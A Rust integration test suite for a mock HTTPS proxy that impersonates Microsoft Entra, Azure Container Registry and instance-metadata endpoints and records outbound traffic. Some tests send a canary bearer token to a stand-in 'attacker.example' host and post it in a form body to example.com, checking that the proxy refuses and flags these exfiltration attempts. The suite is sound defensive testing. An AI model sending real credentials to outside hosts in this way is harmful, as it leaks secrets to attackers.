//! The front door's proxy path with reqwest in-process, each client trusting only the run's CA:
//! fakes reached at real-looking names; unknown destinations refused and recorded with the secrets
//! they carried; a site's direct URL through the proxy; removed sites; graceful shutdown; the
//! proxy's own page and the egress record's format (snapshots).
//!
//! The other topics have files of their own: `direct_listeners` (direct, shared and adopted
//! listeners), `faults` (request and certificate faults), `external_clients` (`curl`, Python
//! `requests`), `handler_failures` (a panicking or silent fake); `support` is their shared world.

mod support;

use std::time::Duration;

use mock_kit::egress::{Outcome, Refusal};
use mock_kit::site::{Scheme, Via};
use serde_json::Value;
use support::*;

#[tokio::test]
async fn reqwest_reaches_fakes_by_real_names_and_everything_is_recorded() {
    let w = world().await;
    let http = client(&w.door, &w.door.proxy_url_for("shard-a"));

    let entra: Value = http
        .get("https://login.microsoftonline.com/contoso/v2.0/.well-known/openid-configuration")
        .send()
        .await
        .unwrap()
        .error_for_status()
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(entra["site"], "test-entra");
    assert_eq!(entra["scheme"], "https");
    assert_eq!(entra["label"], "shard-a");
    assert_eq!(entra["proxyAuthorizationLeaked"], false);

    let acr: Value = http
        .get("https://MyReg.azurecr.io/v2/")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(acr["site"], "test-acr");
    assert_eq!(acr["host"], "myreg.azurecr.io");

    let imds: Value = http
        .get("http://169.254.169.254/metadata/identity/oauth2/token?resource=x")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(imds["site"], "test-imds");
    assert_eq!(imds["scheme"], "http");

    let record = w.door.egress().snapshot();
    assert_eq!(record.len(), 3, "{record:#?}");
    assert_eq!(record[0].host, "login.microsoftonline.com");
    assert_eq!(record[0].port, 443);
    assert_eq!(record[0].scheme, Scheme::Https);
    assert_eq!(record[0].via, Via::FrontDoor);
    assert_eq!(record[0].method, "GET");
    assert_eq!(
        record[0].path,
        "/contoso/v2.0/.well-known/openid-configuration"
    );
    assert_eq!(record[0].status, 200);
    assert_eq!(record[0].client.label.as_deref(), Some("shard-a"));
    assert_eq!(
        record[0].outcome,
        Outcome::Served {
            site: "test-entra".into()
        }
    );
    assert_eq!(record[1].host, "myreg.azurecr.io");
    assert_eq!(record[2].scheme, Scheme::Http);
    assert_eq!(record[2].port, 80);
    assert_eq!(record[2].path, "/metadata/identity/oauth2/token?resource=x");
}

#[tokio::test]
async fn unknown_destinations_are_refused_recorded_with_the_secrets_they_carried() {
    let w = world().await;
    let (token, fingerprint) = w
        .secrets
        .register(
            mock_kit::SecretKind::EntraAccessToken,
            "contoso/project-a",
            "canary-token-0123456789",
        )
        .unwrap();
    let http = client(&w.door, &w.door.proxy_url());

    let resp = http
        .get("https://attacker.example/x.azurecr.io/v2/")
        .bearer_auth(token.expose())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 502);
    assert_eq!(resp.headers()["x-credsim-refused"], "unknown-host");
    let body = resp.text().await.unwrap();
    assert!(
        body.contains("no fake serves attacker.example:443"),
        "{body}"
    );

    // The same secret inside HTTP Basic credentials and in a form body is found too.
    let resp = http
        .post("http://example.com/upload")
        .basic_auth("00000000-0000-0000-0000-000000000000", Some(token.expose()))
        .body(format!("grant=x&secret={}", token.expose()))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 502);

    // A downgrade to plain http for an https-only fake is refused too.
    let resp = http
        .get("http://login.microsoftonline.com/contoso/oauth2/v2.0/token")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403);
    assert_eq!(resp.headers()["x-credsim-refused"], "plain-http-not-served");

    let record = w.door.egress().snapshot();
    assert_eq!(record.len(), 3);
    assert_eq!(record[0].host, "attacker.example");
    assert_eq!(record[0].path, "/x.azurecr.io/v2/");
    assert_eq!(
        record[0].outcome,
        Outcome::Refused {
            reason: Refusal::UnknownHost
        }
    );
    assert!(record[0].carried(&fingerprint));
    assert_eq!(record[0].secrets[0].location, "header:authorization");
    assert_eq!(record[0].secrets[0].label, "contoso/project-a");
    assert_eq!(record[1].host, "example.com");
    assert_eq!(record[1].secrets.len(), 1, "found once, however often");
    assert_eq!(record[1].secrets[0].location, "basic:authorization");
    assert_eq!(
        record[2].outcome,
        Outcome::Refused {
            reason: Refusal::PlainHttpNotServed
        }
    );
    // The record never holds the raw value.
    let serialized = serde_json::to_string(&record).unwrap();
    assert!(!serialized.contains(token.expose()));
}

#[tokio::test]
async fn a_client_that_does_not_trust_the_ca_gets_nothing_and_is_recorded() {
    let w = world().await;
    mock_kit::install_crypto_provider();
    let other_ca = mock_kit::CertificateAuthority::new("someone else").unwrap();
    let http = reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(w.door.proxy_url()).unwrap())
        .tls_certs_only([reqwest::Certificate::from_pem(other_ca.cert_pem().as_bytes()).unwrap()])
        .build()
        .unwrap();
    let err = http
        .get("https://login.microsoftonline.com/")
        .send()
        .await
        .unwrap_err();
    assert!(err.is_connect() || err.is_request(), "{err:?}");
    let rec = w
        .door
        .egress()
        .wait_for(|r| r.method == "CONNECT", Duration::from_secs(5))
        .await
        .expect("the failed handshake is recorded");
    assert_eq!(rec.host, "login.microsoftonline.com");
    assert_eq!(
        rec.outcome,
        Outcome::Refused {
            reason: Refusal::TlsHandshakeFailed
        }
    );
}

#[tokio::test]
async fn removed_sites_become_unknown() {
    let w = world().await;
    let http = client(&w.door, &w.door.proxy_url());
    assert!(w.door.remove_site("test-acr"));
    assert!(!w.door.remove_site("test-acr"));
    let resp = http
        .get("https://myreg.azurecr.io/v2/")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 502);
    assert!(w.door.endpoint("test-acr").is_none());
}

#[tokio::test]
async fn shutdown_finishes_in_flight_requests_then_nothing_listens() {
    let w = world().await;
    let http = client(&w.door, &w.door.proxy_url());
    let proxy = w.door.proxy_addr();
    let direct = w.door.endpoint("test-entra").unwrap().direct_addr;
    // Warm the tunnel so the slow request is in flight when shutdown starts.
    http.get("https://login.microsoftonline.com/warm")
        .send()
        .await
        .unwrap();
    let slow = tokio::spawn({
        let http = http.clone();
        async move {
            http.get("https://login.microsoftonline.com/slow")
                .send()
                .await
                .map(|r| r.status())
        }
    });
    tokio::time::sleep(Duration::from_millis(100)).await;
    w.door.shutdown().await;
    assert_eq!(slow.await.unwrap().unwrap(), 200);
    for addr in [proxy, direct] {
        assert!(
            tokio::net::TcpStream::connect(addr).await.is_err(),
            "{addr} still accepts connections"
        );
    }
}

#[tokio::test]
async fn the_proxy_port_describes_itself_and_rejects_origin_requests() {
    let w = world().await;
    let http = reqwest::Client::builder().no_proxy().build().unwrap();
    let page: Value = http
        .get(format!("{}/", w.door.proxy_url()))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    insta::assert_json_snapshot!("status_page", page);
    let resp = http
        .get(format!("{}/other", w.door.proxy_url()))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
}

#[tokio::test]
async fn egress_record_format() {
    let w = world().await;
    let (token, _) = w
        .secrets
        .register(
            mock_kit::SecretKind::AcrRefreshToken,
            "contosoacr",
            "canary-refresh-0123456789",
        )
        .unwrap();
    let http = client(&w.door, &w.door.proxy_url_for("shard-b"));
    http.post("https://contosoacr.azurecr.io/oauth2/token")
        .form(&[
            ("grant_type", "refresh_token"),
            ("refresh_token", token.expose()),
        ])
        .send()
        .await
        .unwrap();
    let record = w.door.egress().snapshot();
    insta::assert_json_snapshot!("egress_record", record, {
        "[].at" => "[time]",
        "[].wall" => "[time]",
        "[].client.addr" => "[addr]",
    });
}

#[tokio::test]
async fn direct_urls_work_through_the_proxy_too() {
    // A client handed a site's direct URL (AZURE_POD_IDENTITY_AUTHORITY_HOST) and a proxy with an
    // empty NO_PROXY sends the request to the front door, which finds the site by its port.
    let w = world().await;
    let http = client(&w.door, &w.door.proxy_url());
    let imds = w.door.endpoint("test-imds").unwrap();
    let body: Value = http
        .get(format!(
            "{}/metadata/identity/oauth2/token",
            imds.direct_url
        ))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(body["site"], "test-imds");
    let entra = w.door.endpoint("test-entra").unwrap();
    let body: Value = http
        .get(format!("{}/x", entra.direct_url))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(body["site"], "test-entra");
    let rec = w.door.egress().snapshot();
    assert_eq!(rec[0].via, Via::FrontDoor);
    assert_eq!(rec[0].host, "127.0.0.1");
    // A loopback port no site listens on is still refused.
    let resp = http.get("http://127.0.0.1:9/").send().await.unwrap();
    assert_eq!(resp.status(), 502);
}
